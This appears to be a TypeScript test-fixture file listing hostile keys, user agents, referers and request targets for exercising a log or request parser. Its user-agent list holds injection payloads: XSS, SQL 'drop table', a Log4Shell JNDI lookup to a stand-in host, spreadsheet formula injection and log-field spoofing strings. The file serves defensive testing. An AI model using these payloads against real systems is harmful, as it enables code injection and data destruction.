/** Keys that encodings, CSV, JSON, HTML and SQL stumble over; none is `-`, which a log can't tell from no key. */
export const HOSTILE_KEYS: readonly string[] = [
  'plus+and space',
  'a b',
  'a+b',
  'a%20b',
  'a%2520b',
  'a%2Bb',
  '100%',
  'foo-%Y',
  'foo-%25Y',
  '%zz',
  'quote"inside',
  "it's",
  'comma,semicolon;tab\there',
  'line\nfeed',
  'carriage\rreturn',
  'bell\u0007',
  'back\\slash',
  '/leading/slash',
  'double//slash/',
  'query?x=1&y=2#fragment',
  '<script>alert(1)</script>.html',
  '=cmd()',
  '漢字/かな.txt',
  'Ünïcödé/ß',
  'e\u0301 combining',
  '😀/👩‍👩‍👧.png',
  '\uE000private',
  'right\u202Eto left',
  'line\u2028separator',
  'no\u00A0break',
  'null',
  'NULL',
  '--',
  '~tilde',
  '(parentheses) [brackets] {braces}',
  `long/${'k'.repeat(1_000)}`,
  ' leading and trailing ',
];

/** Key fields that no decoding fits, for operations that encode twice; they stay as they are. */
export const BAD_TWICE_ENCODED: readonly string[] = [
  'bad%zz',
  '100%',
  'a+b%2',
  'a%25zz+c',
  '%25FF',
  '%25E0%25A4',
  '%FF',
];

/** Key fields that no decoding fits, for operations that encode once. */
export const BAD_ONCE_ENCODED: readonly string[] = ['bad%zz', '100%', 'a+b%2', '%FF', '%E0%A4'];

/** User agents that try to break a parser; they hold no line feed and no carriage return. */
export const HOSTILE_USER_AGENTS: readonly string[] = [
  'quoted "agent"',
  '"',
  '""',
  '" "',
  '" - - "',
  'x" 200 - 1 1 1 1 "-" "y" - -',
  'spoof" 403 AccessDenied - - 1 1 "-" "none',
  'ends with backslash\\',
  'back\\"slash quote',
  ' leading and trailing ',
  'tab\tvertical\u000Bform\u000C',
  'next\u0085line \u2028 \u2029',
  'nul\u0000one\u0001two\u0002',
  'byte order \uFEFF mark',
  'emoji 😀 漢字 ünï',
  '=HYPERLINK("http://x.example")',
  '<img src=x onerror=alert(1)>',
  "Robert'); drop table requests;--",
  `\${jndi:ldap://x.example/a}`,
  '%s %n %20 %',
  'a,b;c|d',
  `long ${'agent '.repeat(800)}`,
  '[brackets]',
  '[',
];

/** A user agent with bytes that are not UTF-8; every U+FFFD stands for one. */
export const BAD_BYTES_USER_AGENT = 'caf\uFFFD \uFFFD\uFFFD latin';

/** Referers that are not plain, each with its host in lower case or null. */
export const HOSTILE_REFERERS: readonly (readonly [string, string | null])[] = [
  ['https://quote.example/?q="a"', 'quote.example'],
  ['https://quote.example/"b"c', 'quote.example'],
  ['"', null],
  ['not a url', null],
  ['about:blank', null],
  ['/relative/path', null],
  ['https://', null],
  ['HTTPS://UPPER.Example/Path', 'upper.example'],
  ['https://user:secret@login.example:8443/x?y=https://other.example/', 'login.example'],
  ['http://ports.example:80', 'ports.example'],
  ['http://query.example?x=1', 'query.example'],
  ['http://fragment.example#top', 'fragment.example'],
  ['http://[2001:db8::1]:8080/x', '[2001:db8::1]'],
  ['http://192.0.2.7/x', '192.0.2.7'],
  ['android-app://com.reader.example/', 'com.reader.example'],
  ['https://xn--bcher-kva.example/漢字', 'xn--bcher-kva.example'],
];

/** Request targets as only a hostile client sends them. */
export const HOSTILE_TARGETS: readonly string[] = [
  '/a"b',
  '/?x="y z"',
  '/"/"',
  '/%zz%',
  '/\u0001\u0000',
  '/漢字?ü',
  '/?response-content-disposition=attachment;filename="a b.txt"',
];
